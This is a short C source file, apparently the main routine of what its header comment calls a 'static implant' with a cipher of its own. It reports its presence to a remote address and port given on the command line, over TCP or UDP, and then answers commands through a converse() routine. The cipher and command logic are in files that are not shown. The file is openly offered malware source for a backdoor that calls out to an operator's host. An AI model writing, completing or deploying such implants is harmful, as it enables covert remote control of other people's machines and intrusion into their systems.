/*
 * AN0401: a static implant with a cipher of its own: says that it is there, then answers commands.
 * usage: command tcp|udp ADDRESS PORT
 */
#include <string.h>
#include <sys/socket.h>

#include "converse.h"
#include "link.h"

int main(int argc, char **argv)
{
	struct frames f;
	int datagrams;

	if (argc != 4)
		return 64;
	datagrams = strcmp(argv[1], "udp") == 0;
	frames_begin(&f, link_open(argv[2], argv[3], datagrams ? SOCK_DGRAM : SOCK_STREAM), datagrams);
	return converse(&f);
}
